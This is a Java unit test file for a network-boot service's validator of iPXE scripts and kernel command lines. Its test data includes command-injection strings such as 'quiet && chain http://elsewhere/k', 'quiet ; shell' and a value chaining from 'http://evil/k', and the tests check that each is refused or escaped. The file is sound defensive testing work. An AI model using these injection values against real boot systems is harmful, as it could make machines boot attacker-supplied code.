package org.rackboot.api.boot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.rackboot.api.core.ApiException;
import org.rackboot.api.core.KernelCommandLine;

/** The iPXE side of every value put on a script line, and the kernel command line grammar. */
class IpxeTextTest {

  @ParameterizedTest
  @ValueSource(strings = {
      "console=tty0 console=ttyS0,115200n8",
      "quiet",
      "rd.lvm.lv=vg/root ip=10.0.0.2::10.0.0.1:255.255.255.0:web:eth0:none",
      "inst.ks=http://10.0.0.1:8080/boot/templates/x/kickstart.ks?token=rbp_a&b=c",
      "acpi_osi=\"Windows 2015\" quiet",
      "\"dyndbg=file foo.c +p\"",
      "nvme_core.default_ps_max_latency_us=0 -- single",
      "a=b;c x=#y",
      ""})
  void acceptsKernelParameters(String cmdline) {
    assertThat(KernelCommandLine.problem(cmdline)).as(cmdline).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "quiet && chain http://elsewhere/k", // reproduced: a second command on the kernel line
      "quiet || chain http://elsewhere/k",
      "quiet ; shell",
      "quiet #rest is a comment",
      "a=\"x && chain http://elsewhere/k\"", // iPXE has no quoting: still a separator
      "a=${net0/mac}",
      "a=b\\",
      "quiet\nchain http://elsewhere/k",
      "quiet\tshell",
      "a=\"unclosed",
      "=value",
      "k\u00e9y=1",
      "a=\u0000"})
  void refusesWhatIpxeOrTheKernelWouldReadOtherwise(String cmdline) {
    assertThat(KernelCommandLine.problem(cmdline)).as(cmdline).isPresent();
    assertThatThrownBy(() -> KernelCommandLine.check("kernelArgs", cmdline, 4000))
        .isInstanceOfSatisfying(ApiException.class,
            e -> assertThat(e.field()).isEqualTo("kernelArgs"));
  }

  @Test
  void echoTextHasNoSeparatorCommentOrExpansion() {
    // Reproduced: a template name in a failure reason became a second command.
    String reason = "no install template named x && chain http://evil/k ; # ${x}\nshell";
    String line = IpxeText.echo(reason);
    assertThat(line).doesNotContain("&").doesNotContain("|").doesNotContain(";")
        .doesNotContain("#").doesNotContain("$").doesNotContain("\n");
    assertThat(IpxeScripts.waitAndRetry(reason, 30, "http://h:8080/boot/ipxe?mac=aa").lines()
        .filter(l -> l.startsWith("echo")).toList())
        .containsExactly("echo Rackboot: no install template named x ?? chain http://evil/k ? ?"
            + " ?{x}?shell", "echo Rackboot: asking again in 30 seconds");
  }

  @Test
  void urlsAreOnePlainWord() {
    assertThat(IpxeText.urlProblem("http://10.0.0.1:8080/boot/ipxe?mac=52:54:00:12:34:56"))
        .isEmpty();
    assertThat(IpxeText.urlProblem("http://[fd00::1]:8080/x")).isEmpty();
    for (String bad : new String[] {"http://h/x y", "http://h/${x}", "http://h/x\\", "ftp://h/",
        "http://h/\"x", "http://h/x\nchain"}) {
      assertThat(IpxeText.urlProblem(bad)).as(bad).isPresent();
      assertThatThrownBy(() -> IpxeScripts.waitAndRetry("r", 1, bad))
          .isInstanceOf(IllegalArgumentException.class);
    }
    assertThat(BootUrls.problem("http://10.0.0.1:8080")).isEmpty();
    assertThat(BootUrls.problem("http://rackboot.example/pxe")).isEmpty();
    assertThat(BootUrls.problem("http://h/a?x=1")).isPresent();
    assertThat(BootUrls.problem("http://h@evil:80")).isPresent();
  }

  @Test
  void theKernelScriptRefusesAnUncheckedCommandLine() {
    assertThatThrownBy(() -> IpxeScripts.kernel("http://h/k", "http://h/i",
        "quiet && chain http://elsewhere/k", "b"))
        .isInstanceOf(IllegalArgumentException.class);
  }
}
